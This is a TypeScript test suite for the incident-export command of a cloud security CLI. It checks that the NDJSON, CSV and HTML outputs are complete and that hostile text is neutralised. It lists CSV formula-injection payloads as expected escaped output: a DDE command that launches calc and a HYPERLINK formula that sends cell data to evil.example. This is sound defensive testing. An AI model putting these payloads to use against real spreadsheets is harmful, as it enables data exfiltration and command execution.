import { parse as parseCsv } from 'csv-parse/sync';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseHtml, type DefaultTreeAdapterTypes } from 'parse5';
import { chromium } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { recordDecision } from '../../aws/decisions.ts';
import type { Table } from '../../aws/records.ts';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient } from '@aws-sdk/lib-dynamodb';
import { writeExport, type Source } from '../../cli/audit/export.ts';
import { run } from '../../cli/main.ts';
import type { IncidentView } from '../../core/incident.ts';
import { plain } from '../../core/text.ts';
import { type Account, startAccount } from '../../sandbox/account.ts';
import { HOSTILE_CSV, HOSTILE_HTML } from './hostile.ts';
import { madeView, writeViews } from './made.ts';
import { CHROMIUM } from './picture.ts';

const AUDITOR = 'arn:aws:iam::111122223333:role/auditor';
const START = Math.floor(Date.now() / 86_400_000 - 30) * 86_400_000;
const at = (index: number) => new Date(START + index * 3_600_000).toISOString();

/** Every field that may come from an event holds hostile text. */
function hostile(index: number, text: string): IncidentView {
  const view = madeView(index, at(index), { status: 'contained', reason: text, actor: text, title: text, outcome: text, exposures: [text], drill: false });
  const { incident } = view;
  return {
    ...view,
    incident: { ...incident, target: { ...incident.target, name: text }, ticketGap: text },
    plans: view.plans.map((plan) => ({ ...plan, notes: [text], impact: { note: text }, changes: plan.changes.map((change) => ({ ...change, title: text, setting: text, before: text, after: { [text]: text } })) })),
    ledger: view.ledger.map((entry) => ({ ...entry, title: text, setting: text })),
    entries: view.entries.map((entry) => ({ ...entry, text, by: text })),
  };
}

const plainViews = Array.from({ length: 60 }, (_, index) => madeView(index, at(index)));
const hostileViews = [...HOSTILE_HTML, ...HOSTILE_CSV].map((text, index) => hostile(100 + index, text));
const views = [...plainViews, ...hostileViews];
const DECISIONS = 7;
let account: Account;
let folder: string;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'stopbath-exports-'));
  account = await startAccount();
  account.createRole('auditor', { trust: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'ecs-tasks.amazonaws.com' }, Action: 'sts:AssumeRole' }] } });
  const deployment = await account.deploy({ config: { auditorRoles: [AUDITOR] } });
  await writeViews(account, deployment.name, views);
  const admin = new DynamoDBClient({ endpoint: account.endpoint, region: 'us-east-1', credentials: account.admin });
  const table: Table = { settings: { STOPBATH_TABLE: deployment.name }, clients: { dynamo: DynamoDBDocumentClient.from(admin) } };
  for (let index = 0; index < DECISIONS; index++) await recordDecision(table, { event: `event-${index}`, source: 'guardduty', type: 'x', decision: index === 0 ? 'rejected' : 'record', reason: 'it was read', targets: [], incidents: [], suppressedBy: null, receivedAt: at(24 * index + 1), decidedAt: at(24 * index + 1), drill: false });
  admin.destroy();
  const { accessKeyId, secretAccessKey, sessionToken = '' } = account.world.credentials(AUDITOR, 'ada', 'ecs-tasks.amazonaws.com');
  Object.entries({ STOPBATH_AUDIT_URL: deployment.urls['audit'] ?? '', AWS_REGION: 'us-east-1', ADA_AWS_ACCESS_KEY_ID: accessKeyId, ADA_AWS_SECRET_ACCESS_KEY: secretAccessKey, ADA_AWS_SESSION_TOKEN: sessionToken }).forEach(([name, value]) => vi.stubEnv(name, value));
});
afterAll(async () => {
  vi.unstubAllEnvs();
  rmSync(folder, { recursive: true });
  await account.stop();
});
afterEach(() => {
  vi.restoreAllMocks();
  process.exitCode = undefined;
});

async function stopbath(...args: readonly string[]): Promise<{ readonly exit: number; readonly out: string; readonly err: string }> {
  const written = { out: '', err: '' };
  vi.spyOn(process.stdout, 'write').mockImplementation((text) => ((written.out += String(text)), true));
  vi.spyOn(process.stderr, 'write').mockImplementation((text) => ((written.err += String(text)), true));
  const exit = await run([...args, '--as', 'ada']);
  vi.restoreAllMocks();
  return { exit, ...written };
}

/** Each is asked for once, and read by several tests. */
const kept = new Map<string, ReturnType<typeof exportedNow>>();
function exported(...args: readonly [format: string, ...filters: readonly string[]]): ReturnType<typeof exportedNow> {
  const present = kept.get(args.join(' ')) ?? exportedNow(...args);
  kept.set(args.join(' '), present);
  return present;
}

async function exportedNow(format: string, ...filters: readonly string[]): Promise<{ readonly path: string; readonly text: string; readonly manifest: Manifest }> {
  const path = join(folder, `${format}-${filters.join('')}.${format}`);
  const { exit, err } = await stopbath('export', '--since', '60d', '--format', format, '--out', path, ...filters);
  expect({ exit, err }).toEqual({ exit: 0, err: '' });
  return { path, text: readFileSync(path, 'utf8'), manifest: JSON.parse(readFileSync(`${path}.manifest.json`, 'utf8')) };
}

interface Manifest {
  readonly file: { readonly sha256: string; readonly bytes: number };
  readonly incidents: { readonly exported: number; readonly expected: number };
  readonly question: Readonly<Record<string, string>>;
  readonly decisions: number | null;
  readonly complete: boolean;
}

describe('stopbath export --format ndjson', () => {
  it('holds everything about every incident and every decision, and says so in its last line', async () => {
    const { text, manifest } = await exported('ndjson');
    const lines = text.trimEnd().split('\n').map((line) => JSON.parse(line));
    expect(lines[0]).toMatchObject({ line: 'export', schemaVersion: 1 });
    expect(lines.filter(({ line }) => line === 'incident')).toEqual(views.map((view) => ({ line: 'incident', ...view, records: [] })));
    expect(new Set(lines.filter(({ line }) => line === 'decision').map(({ event }) => event))).toEqual(new Set(Array.from({ length: DECISIONS }, (_, index) => `event-${index}`)));
    expect(lines.at(-1)).toMatchObject({ line: 'end', complete: true, decisions: DECISIONS, incidents: { exported: views.length, expected: views.length } });
    expect(manifest).toMatchObject({ complete: true, decisions: DECISIONS, file: { sha256: createHash('sha256').update(text).digest('hex'), bytes: Buffer.byteLength(text) } });
  });

  it('ends now where it is asked to end later: what comes in meanwhile is the next one\u2019s', async () => {
    const before = new Date().toISOString();
    const { manifest } = await exported('ndjson', '--until', '2999-12-31', '--status', 'failed');
    expect(manifest.question['until'] ?? '').toMatch(/^20/);
    expect((manifest.question['until'] ?? '') >= before && (manifest.question['until'] ?? '') <= new Date().toISOString()).toBe(true);
  });

  it('takes the filters of history, and leaves decisions out where incidents are filtered', async () => {
    const { text, manifest } = await exported('ndjson', '--status', 'restored');
    const ids = text.trimEnd().split('\n').map((line) => JSON.parse(line)).filter(({ line }) => line === 'incident').map(({ incident }) => incident.id);
    expect(ids).toEqual(views.filter(({ incident }) => incident.status === 'restored').map(({ incident }) => incident.id));
    expect(manifest).toMatchObject({ complete: true, decisions: null, incidents: { exported: ids.length } });
  });

  it('can be read from stdout, with nothing else in it', async () => {
    const { exit, out } = await stopbath('export', '--since', '60d', '--status', 'held', '--format', 'ndjson', '--out', '-');
    expect(exit).toBe(0);
    expect(out.trimEnd().split('\n').map((line) => JSON.parse(line).line).slice(0, 2)).toEqual(['export', 'incident']);
  });
});

describe('stopbath export --format csv', () => {
  it('has a row an incident', async () => {
    const rows: Record<string, string>[] = parseCsv((await exported('csv')).text, { columns: true, bom: true });
    expect(rows.map((row) => row['incident'])).toEqual(views.map(({ incident }) => incident.id));
    const restored = rows[4];
    expect(restored).toMatchObject({ status: 'restored', drill: 'no', 'seconds to contained': '7', changes: expect.stringContaining('Block public access') });
  });

  it('opens in no spreadsheet as a formula, whichever character separates cells there', async () => {
    const { text } = await exported('csv');
    const cells: string[][] = parseCsv(text, { bom: true });
    const begins = /^[=+\-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20]/u;
    expect(cells.flat().filter((cell) => begins.test(cell.replace(/^[\s"\u200b\ufeff]+/u, '')))).toEqual([]);
    // As somebody's spreadsheet would read it whose separator is another one.
    for (const separator of [';', '\t', '\r\n', '\n']) {
      expect(text.replace('\ufeff', '').split(separator).filter((piece) => begins.test(piece.replace(/^[\s"]+/u, '')))).toEqual([]);
    }
  });

  it('keeps the text readable', async () => {
    const rows: Record<string, string>[] = parseCsv((await exported('csv')).text, { columns: true, bom: true });
    expect(rows.slice(60 + HOSTILE_HTML.length, 60 + HOSTILE_HTML.length + 4).map((row) => row['why'])).toEqual(["'=cmd|'/c calc'!A0", '\'=HYPERLINK("https://evil.example/?x="&A1,"click")', "'=1+1", "'+1+1"]);
  });
});

type Node = DefaultTreeAdapterTypes.Node;

describe('stopbath export --format html', () => {
  const ALLOWED = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'main', 'header', 'p', 'h1', 'h2', 'h3', 'strong', 'dl', 'div', 'dt', 'dd', 'small', 'section', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'article', 'b', 'code', 'span', 'ol', 'ul', 'li', 'time', 'details', 'summary', 'pre', 'footer']);

  it('is one page without scripts in which hostile text is text', async () => {
    const { text } = await exported('html');
    const texts: string[] = [];
    const walk = (node: Node): void => {
      if (node.nodeName === '#text' && 'value' in node) texts.push(node.value);
      if ('tagName' in node) {
        expect(ALLOWED).toContain(node.tagName);
        const attributes = Object.fromEntries(node.attrs.map(({ name, value }) => [name, value]));
        expect(Object.keys(attributes).filter((name) => name.startsWith('on') || name === 'src' || name === 'srcdoc' || name === 'style')).toEqual([]);
        if (node.tagName === 'a') expect(attributes['href']).toMatch(/^#inc-[\w-]+$/);
      }
      if ('childNodes' in node) node.childNodes.forEach(walk);
    };
    walk(parseHtml(text));
    for (const one of [...HOSTILE_HTML, ...HOSTILE_CSV]) expect(texts).toContain(plain(one));
    expect(text).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
    expect(text).not.toMatch(/url\(|@import|https?:\/\/(?!evil)/);
  });

  it('has the numbers first, then each incident once, with a link to it', async () => {
    const { text } = await exported('html');
    expect([...text.matchAll(/<article id="([\w-]+)">/g)].map((match) => match[1])).toEqual(views.map(({ incident }) => incident.id));
    expect([...text.matchAll(/href="#([\w-]+)"/g)].map((match) => match[1])).toEqual(views.map(({ incident }) => incident.id));
    // A drill is marked in the list and at its own head.
    const drills = views.filter(({ incident }) => incident.drill).length;
    expect(drills).toBeGreaterThan(0);
    expect([...text.matchAll(/<\/a> \(drill\)<\/td>/g)]).toHaveLength(drills);
    expect([...text.matchAll(/<\/span> \(drill\)<\/h2>/g)]).toHaveLength(drills);
    expect(text.indexOf(`Complete: ${views.length} incidents`)).toBeGreaterThan(0);
    expect(text.indexOf('Complete: ')).toBeLessThan(text.indexOf('<article'));
    expect(text.trimEnd().endsWith('</html>')).toBe(true);
  });

  it('shows nothing on Chromium’s console, and runs nothing of what events say', async () => {
    if (!existsSync(CHROMIUM.executablePath)) {
      process.stdout.write('not run: the HTML export in a browser (/usr/bin/chromium is absent)\n');
      return;
    }
    const { path } = await exported('html');
    const browser = await chromium.launch(CHROMIUM);
    try {
      const page = await browser.newPage();
      const noise: string[] = [];
      page.on('console', (message) => noise.push(message.text()));
      page.on('pageerror', (error) => noise.push(error.message));
      page.on('dialog', (dialog) => void dialog.dismiss().then(() => noise.push('a dialog')));
      page.on('request', (request) => void (request.url().startsWith('file:') || noise.push(request.url())));
      await page.goto(`file://${path}`);
      expect(await page.title()).toMatch(/^Stopbath: incidents/);
      expect(await page.locator('article').count()).toBe(views.length);
      expect(await page.locator('script, iframe, img, svg, form, object, embed, base, link').count()).toBe(0);
      await page.emulateMedia({ media: 'print' });
      expect(await page.locator('article details pre').last().isVisible()).toBe(true);
      expect(noise).toEqual([]);
    } finally {
      await browser.close();
    }
  });
});

describe('an export', () => {
  const source = (more: Partial<Source>): Source => ({
    question: { since: at(0), until: at(900) },
    startedAt: at(901),
    incidents: (async function* () { for (const view of plainViews) yield { view, records: [] }; })(),
    decisions: null,
    count: () => Promise.resolve(plainViews.length),
    seals: () => Promise.resolve({ seals: [], gaps: [] }),
    ...more,
  });

  it('that holds less than the index counts says so', async () => {
    const path = join(folder, 'short.html');
    expect(await writeExport(path, 'html', source({ count: () => Promise.resolve(61) }))).toMatchObject({ complete: false, incidents: { exported: 60, expected: 61 } });
    expect(readFileSync(path, 'utf8')).toContain('Not complete: 60 of 61 incidents');
  });

  it('names the seals that cover its records, and those that are named and are not there', async () => {
    const seal = (number: number) => ({ number, key: `seals/${number}`, sha256: 'a', at: at(number), from: at(number - 1), due: at(number + 2), count: 1, lost: 0 });
    const covered = (async function* () { for (const [index, view] of plainViews.entries()) yield { view, records: [{ key: `r${index}`, kind: 'execution', sha256: 'b', at: at(1), seal: 2 + (index % 3) }] }; })();
    const { seals, unknownSeals, records } = await writeExport(join(folder, 'sealed.ndjson'), 'ndjson', source({ incidents: covered, seals: () => Promise.resolve({ seals: [seal(2), seal(3), seal(950)], gaps: [] }) }));
    expect({ seals: seals.map(({ number }) => number), unknownSeals, records }).toEqual({ seals: [2, 3], unknownSeals: [4], records: 60 });
  });

  it.each(['ndjson', 'csv', 'html'] as const)('as %s that is cut off in the middle leaves no file', async (format) => {
    const path = join(folder, `cut.${format}`);
    const cut = (async function* () { yield* plainViews.slice(0, 30).map((view) => ({ view, records: [] })); throw new Error('the network is gone'); })();
    await expect(writeExport(path, format, source({ incidents: cut }))).rejects.toThrow('the network is gone');
    expect(readdirSync(folder).filter((name) => name.startsWith('cut.'))).toEqual([]);
  });
});

describe('stopbath report and history', () => {
  it('give the numbers of a month as JSON', async () => {
    const month = at(0).slice(0, 7);
    const { exit, out } = await stopbath('report', '--period', month, '--json');
    const wanted = views.filter(({ incident }) => incident.receivedAt.startsWith(month) && !incident.drill);
    expect(exit).toBe(0);
    expect(JSON.parse(out)).toMatchObject({ numbers: { incidents: { total: wanted.length }, drills: { held: views.filter(({ incident }) => incident.receivedAt.startsWith(month) && incident.drill).length } } });
  });

  it('walk all pages into one JSON', async () => {
    const { out } = await stopbath('history', '--all', '--json', '--oldest');
    expect(JSON.parse(out)).toMatchObject({ cursor: null, incidents: views.map(({ incident }) => ({ id: incident.id })) });
  });

  it.each<[args: readonly string[], message: RegExp]>([
    [['export', '--format', 'csv'], /--since is missing/],
    [['export', '--since', '2026-05-02', '--until', '2026-05-01', '--format', 'csv'], /--since is "2026-05-02": it must be before --until/],
    [['export', '--since', '2999-01-01', '--format', 'csv'], /it must be before now/],
    [['export', '--since', 'monday', '--format', 'csv'], /--since is "monday": use a day/],
    [['export', '--since', '7d', '--format', 'pdf'], /'pdf' is invalid\. Allowed choices are ndjson, csv, html/],
    [['export', '--since', '7d', '--format', 'csv', '--out', 'package.json/x.csv'], /package\.json\/x\.csv cannot be written .*choose another place/],
    [['export', '--since', '7d', '--format', 'html', '--out', 'package.json/x.html'], /package\.json\/x\.html cannot be written .*choose another place/],
    [['report', '--period', '2026-Q5'], /--period is "2026-Q5": use a year/],
    [['report', '--period', '2999'], /it has not begun yet/],
    [['history', '--status', 'broken'], /there is no status "broken"/],
    [['history', '--cursor', 'abc'], /cursor is "abc": it was changed/],
    [['history', '--since', '2026-02-31'], /--since is "2026-02-31"/],
  ])('say what is wrong with %j', async (args, message) => {
    const { exit, err } = await stopbath(...args);
    expect({ exit, err }).toEqual({ exit: 2, err: expect.stringMatching(message) });
  });
});
